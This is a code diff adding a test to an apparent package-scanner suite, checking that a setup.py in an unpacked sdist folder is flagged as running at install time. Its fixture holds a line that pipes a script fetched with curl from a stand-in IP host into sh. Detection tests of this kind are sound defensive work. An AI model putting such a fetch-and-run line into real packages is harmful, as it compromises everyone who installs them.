@@ -330,3 +330,17 @@ setup(name="tidy")
     assert res.risk.level in HIGH
     execs = [h for h in res.findings if h.path == "setup.py" and h.capability.startswith("exec.")]
     assert execs and all(h.rule != "py.exec_local_file" for h in execs)
+
+
+def test_an_unpacked_sdist_inside_a_folder_still_runs_its_setup_py(tmp_path):
+    """A moderator scans the folder an sdist was unpacked in: ``drop/name-1.0/setup.py`` is
+    the setup.py pip runs, not an app template deep inside a package."""
+    top = tmp_path / "drop" / "helper-0.4"
+    top.mkdir(parents=True)
+    (top / "setup.py").write_text(
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl -s http://203.0.113.6/p.sh | sh')\nsetup(name='helper')\n"
+    )
+    (top / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: helper\nVersion: 0.4\n")
+    res = scan_artifact(open_artifact(tmp_path))
+    assert _install_time(res)
